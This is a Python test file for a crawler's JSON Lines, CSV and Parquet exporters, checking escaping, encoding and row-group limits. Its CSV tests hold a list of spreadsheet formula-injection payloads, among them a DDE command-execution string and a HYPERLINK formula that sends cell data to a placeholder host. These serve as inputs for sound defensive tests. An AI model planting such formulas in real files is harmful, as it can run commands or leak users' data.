"""JSON Lines, CSV and Parquet: what a reader of each gets back, whatever the cells hold."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tui_crawler.export import parquet
from tui_crawler.export.output import CannotWrite, Output, open_stream
from tui_crawler.export.parquet import write_parquet
from tui_crawler.export.text_rows import without_surrogates, write_csv, write_jsonl
from tui_crawler.text.sheet import CellKind, kind_of

Written = Callable[[Callable[[Output], int]], tuple[int, bytes]]
Writer = Callable[[Any, Any, Output], int]

WRITERS = (write_jsonl, write_csv, write_parquet)
COLUMNS = ("title", "size", "valid")
TEXTS = st.text(alphabet=st.characters(codec=None, categories=None), max_size=30)
ROWS = st.lists(
    st.tuples(
        st.none() | TEXTS,
        st.none() | st.integers(-(2**63), 2**63 - 1),
        st.sampled_from((None, 0, 1)),
    ),
    max_size=5,
)
ANY = settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
INJECTIONS = [
    case["text"]
    for case in json.loads(
        (Path(__file__).parents[1] / "cli/corpora/terminal_injection.json").read_text("utf-8"),
    )["cases"]
]
FORMULAS = [
    *(
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://x.example?"&A1)',
        "\t=1",
        "\r=1",
        "\tx",
    ),
    *("\rx", "  =1", "\n=1", "\u00a0=1", "\ufeff=1", "\u200b=1", "\u3000@x", "\x00=1", "\x1b=1", "\u202e=1", "\x85=1"),
    *("\uff1d1", "\uff0b1", "\uff0d1", "\uff20x", "\ufe661", "\ufe62x", "\ufe63x", "\ufe6bx", " \uff1dx"),
]


def whole(cell: Any) -> Any:
    return without_surrogates(cell) if isinstance(cell, str) else cell


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))


class TestSheet:
    def test_kinds(self):
        kinds = [kind_of(column) for column in ("url", "size", "nofollow", "stored_at")]
        assert kinds == [CellKind.text, CellKind.integer, CellKind.flag, CellKind.time]

    def test_surrogates(self):
        assert without_surrogates("a\ud800b\udfffc\ud83d\ude00") == "a\ufffdb\ufffdc\U0001f600"


@pytest.mark.parametrize("write", WRITERS)
def test_windows_are_taken_one_by_one(write: Writer, written: Written):
    """A format asks for the next window when it has done with the one before."""
    alive = 0

    class Window(list[tuple[Any, ...]]):
        def __init__(self, rows: list[tuple[Any, ...]]) -> None:
            nonlocal alive
            super().__init__(rows)
            alive += 1
            assert alive <= 2

        def __del__(self) -> None:
            nonlocal alive
            alive -= 1

    windows = (Window([("x", 1, 1)] * 3) for _ in range(50))
    count, data = written(lambda output: write(windows, COLUMNS, output))
    assert count == 150
    assert data


@pytest.mark.parametrize("write", WRITERS)
def test_an_output_that_fails_ends_it(write: Writer):
    def full(_: memoryview) -> int:
        raise OSError(28, "No space left on device")

    rows = [("x" * 300_000, 1, 1)]
    with pytest.raises(CannotWrite, match="No space left"), open_stream(full) as output:
        write(iter([rows]), COLUMNS, output)


class TestJsonLines:
    @ANY
    @given(rows=ROWS)
    def test_every_line_is_one_object_in_ascii(self, rows: list[tuple[Any, ...]], written: Written):
        count, data = written(lambda output: write_jsonl([rows] if rows else [], COLUMNS, output))
        assert data.isascii()
        assert all(byte == 10 or 32 <= byte < 127 for byte in data)
        lines = data.decode("ascii").splitlines()
        assert count == len(lines) == len(rows)
        assert [json.loads(line) for line in lines] == [
            {"title": whole(row[0]), "size": row[1], "valid": row[2]} for row in rows
        ]
        assert all(not_lone(json.loads(line)["title"]) for line in lines)

    def test_the_text_itself(self, written: Written):
        rows = [("a\x00\ud800\U0001f600\x7f\u2028", None, 1)]
        _, data = written(lambda output: write_jsonl([rows], COLUMNS, output))
        assert data == b'{"title":"a\\u0000\\ufffd\\ud83d\\ude00\\u007f\\u2028","size":null,"valid":1}\n'

    def test_a_backslash_that_looks_like_a_surrogate_stays(self, written: Written):
        _, data = written(lambda output: write_jsonl([[("\\ud800", 1, 1)]], COLUMNS, output))
        assert json.loads(data)["title"] == "\\ud800"

    def test_nothing_is_an_empty_file(self, written: Written):
        assert written(lambda output: write_jsonl([], COLUMNS, output)) == (0, b"")


def not_lone(text: str | None) -> bool:
    return text is None or not any("\ud800" <= char <= "\udfff" for char in text)


class TestCsv:
    def test_rfc_4180(self, written: Written):
        rows = [('a "b", c', -5, 0), ("plain", None, None), ("", 7, 1)]
        count, data = written(lambda output: write_csv([rows], COLUMNS, output))
        assert count == 3
        assert data == b'title,size,valid\r\n"a ""b"", c",-5,0\r\nplain,,\r\n,7,1\r\n'

    def test_a_byte_order_mark_comes_once_before_all(self, written: Written):
        rows = [("ä", 1, 0)]
        _, data = written(lambda output: write_csv([rows, rows], COLUMNS, output, bom=True))
        assert data == "\ufefftitle,size,valid\r\nä,1,0\r\nä,1,0\r\n".encode()

    def test_a_single_empty_cell_is_a_row(self, written: Written):
        _, data = written(lambda output: write_csv([[("",), (None,)]], ("title",), output))
        assert read_csv(data) == [["title"], [""], [""]]

    def test_nothing_is_a_header(self, written: Written):
        assert written(lambda output: write_csv([], COLUMNS, output)) == (0, b"title,size,valid\r\n")

    @pytest.mark.parametrize("text", FORMULAS, ids=ascii)
    def test_no_cell_is_a_formula(self, text: str, written: Written):
        _, data = written(lambda output: write_csv([[(text, -1, 1)]], COLUMNS, output))
        (_, (cell, number, _)) = read_csv(data)
        assert cell.startswith("'")
        assert number == "-1"

    @pytest.mark.parametrize("text", ["plain", "a=b", "1-2", "'quoted", "https://x.example/?a=b", "\u00e9=", "\u0661"])
    def test_other_text_stays(self, text: str, written: Written):
        _, data = written(lambda output: write_csv([[(text, 1, 1)]], COLUMNS, output))
        assert read_csv(data)[1][0] == text

    @pytest.mark.parametrize("text", INJECTIONS)
    def test_controls_are_spelled_out(self, text: str, written: Written):
        _, data = written(lambda output: write_csv([[(text, 1, 1)]], COLUMNS, output))
        lines = data.decode("utf-8").split("\r\n")
        assert len(lines) == 3
        assert not any(char < " " or "\x7f" <= char < "\xa0" or char in "\u2028\u2029\u202e" for char in lines[1])

    def test_how_they_are_spelled(self, written: Written):
        rows = [("a\nb\tc\x1bd\x9be\u2028f\ud800g\u200dh", 1, 1)]
        _, data = written(lambda output: write_csv([rows], COLUMNS, output))
        assert read_csv(data)[1][0] == "a\\nb\\tc\\x1bd\\x9be\\u2028f\ufffdg\u200dh"

    @ANY
    @given(rows=ROWS)
    def test_one_row_is_one_line_that_a_reader_understands(self, rows: list[tuple[Any, ...]], written: Written):
        count, data = written(lambda output: write_csv([rows] if rows else [], COLUMNS, output))
        assert count == len(rows)
        assert len(data.decode("utf-8").splitlines()) == len(rows) + 1
        read = read_csv(data)[1:]
        assert [row[1:] for row in read] == [["" if cell is None else str(cell) for cell in row[1:]] for row in rows]
        assert not any(row[0].lstrip().startswith(("=", "+", "-", "@", "\t", "\r")) for row in read)


class TestParquet:
    @ANY
    @given(rows=ROWS)
    def test_it_reads_back(self, rows: list[tuple[Any, ...]], written: Written):
        count, data = written(lambda output: write_parquet([rows] if rows else [], COLUMNS, output))
        table = pq.read_table(io.BytesIO(data))
        assert count == table.num_rows == len(rows)
        assert table.schema.types == [pa.string(), pa.int64(), pa.bool_()]
        assert table.schema.names == ["title", "size", "valid"]
        flags = [None if row[2] is None else bool(row[2]) for row in rows]
        assert table.to_pydict() == {
            "title": [whole(row[0]) for row in rows],
            "size": [row[1] for row in rows],
            "valid": flags,
        }

    def test_row_groups_are_bounded_by_rows(self, written: Written, monkeypatch: pytest.MonkeyPatch):
        monkeypatch.setattr(parquet, "GROUP_ROWS", 10)
        _, data = written(lambda output: write_parquet([[("x", 1, 1)] * 4] * 8, COLUMNS, output))
        metadata = pq.ParquetFile(io.BytesIO(data)).metadata
        assert [metadata.row_group(group).num_rows for group in range(metadata.num_row_groups)] == [12, 12, 8]
        assert metadata.row_group(0).column(0).compression == "ZSTD"

    def test_row_groups_are_bounded_by_bytes(self, written: Written, monkeypatch: pytest.MonkeyPatch):
        monkeypatch.setattr(parquet, "_GROUP_BYTES", 1_000_000)
        title = "t" * 1_000_000
        _, data = written(lambda output: write_parquet([[(title, 1, 1)]] * 3, COLUMNS, output))
        file = pq.ParquetFile(io.BytesIO(data))
        assert file.metadata.num_row_groups == 3
        assert file.read().column("title").to_pylist() == [title] * 3

    def test_a_number_in_a_text_column_is_text(self, written: Written):
        _, data = written(lambda output: write_parquet([[(5, 1, 1)]], COLUMNS, output))
        assert pq.read_table(io.BytesIO(data)).column("title").to_pylist() == ["5"]

    def test_half_an_export_has_no_footer(self):
        stream = io.BytesIO()

        def windows() -> Any:
            yield [("x", 1, 1)]
            raise LookupError("torn")

        with pytest.raises(LookupError), open_stream(stream.write) as output:
            write_parquet(windows(), COLUMNS, output)
        assert not stream.getvalue().endswith(b"PAR1")
